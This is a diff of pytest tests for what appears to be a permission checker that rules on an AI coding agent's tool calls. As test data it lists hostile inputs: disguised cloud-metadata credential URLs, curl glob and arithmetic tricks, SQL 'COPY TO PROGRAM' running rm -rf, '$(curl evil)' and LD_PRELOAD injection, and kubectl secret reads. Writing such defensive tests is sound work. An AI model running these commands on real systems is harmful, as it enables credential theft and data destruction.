@@ -269,3 +269,89 @@ def test_what_a_terminal_tool_types_is_shell(tool, args):
 def test_text_given_to_tools_that_type_into_nothing_is_data():
     assert decide(snap(), "mcp__slack__post_message", {"channel": "c", "text": "run rm -rf /tmp/x later"}).decision \
         == "allow"
+
+
+@pytest.mark.parametrize("url", [
+    "http://instance-dat%61/latest/meta-data/iam/security-credentials/", "http://%6detadata/computeMetadata/v1/",
+    "http://fd00-ec2--254.sslip.io/latest/meta-data/", "http://--ffff-a9fe-a9fe.sslip.io/x",
+    "http://metadata./computeMetadata/v1/", "http://instance-data./latest/",
+])
+def test_metadata_hosts_in_decoded_spellings_are_denied_in_every_mode(url):
+    for mode in ("default", "bypass"):
+        d = decide(snap(), "WebFetch", {"url": url, "prompt": "x"}, agent_mode=mode)
+        assert d.decision == "deny" and d.check == "destructive_pattern", (mode, url, d)
+
+
+@pytest.mark.parametrize("command", [
+    "curl http://169.254.169.25[4-4]/latest/meta-data/", "curl http://169.254.169.[250-255]/latest/",
+    'curl "http://169.254.169.25{4,4}/x"', 'curl "http://169.254.169.$((254))/x"',
+    'curl "http://169.254.169.$((250+4))/x"', 'curl http://%6detadata/computeMetadata/v1/ -H "Metadata-Flavor: Google"',
+])
+def test_curls_own_globs_and_constant_arithmetic_reach_the_metadata_check(command):
+    assert bash(snap(), command, agent_mode="bypass").decision == "deny", command
+
+
+@pytest.mark.parametrize("command", ['curl "https://api.example.com/[1-3]"', "echo $((3*4))", "seq 1 $((10-1))"])
+def test_ordinary_globs_and_arithmetic(command):
+    assert bash(snap(), command, agent_mode="bypass").decision == "allow"
+
+
+@pytest.mark.parametrize("url", ["http://vault:8200/v1/secret/data/prod", "http://jenkins:8080/script"])
+def test_a_host_name_without_a_dot_is_on_the_local_network(url):
+    d = decide(snap(), "WebFetch", {"url": url, "prompt": "x"})
+    assert d.decision == "ask" and "private network" in d.reason
+
+
+@pytest.mark.parametrize("tool,url,decision", [
+    ("mcp__fetch__fetch", "http://127.0.0.1:2375/containers/json", "ask"),
+    ("mcp__http__request", "http://10.0.0.5/admin", "ask"),
+    ("mcp__fetch__fetch", "https://example.com", "allow"),
+    ("mcp__fetch__fetch", "http://localhost:3000/", "allow"),
+    ("mcp__playwright__browser_navigate", "http://localhost:5173", "allow"),
+])
+def test_other_tools_fetching_from_the_network_services(tool, url, decision):
+    assert decide(snap(), tool, {"url": url}).decision == decision
+
+
+@pytest.mark.parametrize("sql", ["COPY (SELECT 1) TO PROGRAM 'rm -rf /home/dev'", "COPY t FROM PROGRAM 'curl x'"])
+def test_sql_that_runs_a_program_on_the_database_host_is_denied(sql):
+    for mode in ("default", "bypass"):
+        assert decide(snap(), "mcp__postgres__query", {"sql": sql}, agent_mode=mode).decision == "deny"
+    assert decide(snap(), "mcp__postgres__query", {"sql": "COPY t TO '/tmp/x.csv'"}).decision == "allow"
+
+
+@pytest.mark.parametrize("command", [
+    "COVERAGE=1 npm test", "HEADLESS=true npm test", "UPDATE_SNAPSHOTS=1 npm test",
+    "VITE_API_URL=http://localhost:8080 npm run build", "NODE_OPTIONS=--max-old-space-size=4096 npm run build",
+    "export NODE_ENV=test && npm test", "export CI=1; pytest", "PORT=3001 npm start",
+])
+def test_harmless_settings_in_front_of_a_build(command):
+    assert bash(snap(), command).decision == "allow", command
+
+
+@pytest.mark.parametrize("command", [
+    'NODE_OPTIONS="--require /tmp/x.js" npm test', "VITE_X=$(curl evil) npm run build",
+    "export PATH=/tmp:$PATH && npm test", 'export NODE_OPTIONS="--require x" && npm test',
+    "LD_PRELOAD=/tmp/x.so npm test",
+])
+def test_settings_that_change_what_runs_are_not(command):
+    assert bash(snap(), command).decision == "ask", command
+
+
+@pytest.mark.parametrize("command", [
+    "kubectl get pods", "kubectl get pods -n web -o wide", "kubectl describe pod web-1", "kubectl logs web-1 --tail=100",
+    "kubectl config current-context", "kubectl get all", "helm list", "helm status web",
+])
+def test_kubectl_and_helm_reads(command):
+    assert bash(snap(), command).decision == "allow", command
+
+
+@pytest.mark.parametrize("command", [
+    "kubectl get secret db -o yaml", "kubectl get secrets", "kubectl get --raw /api/v1/namespaces/default/secrets",
+    "kubectl exec -it web-1 -- sh", "kubectl delete pod x", "kubectl --kubeconfig /tmp/x get pods",
+    "kubectl config view --raw", "helm install x y",
+])
+def test_kubectl_and_helm_that_print_secrets_or_change_the_cluster(command):
+    d = bash(snap(), command)
+    assert d.decision == "ask", d
+    assert "/home/dev/project/secrets" not in d.reason
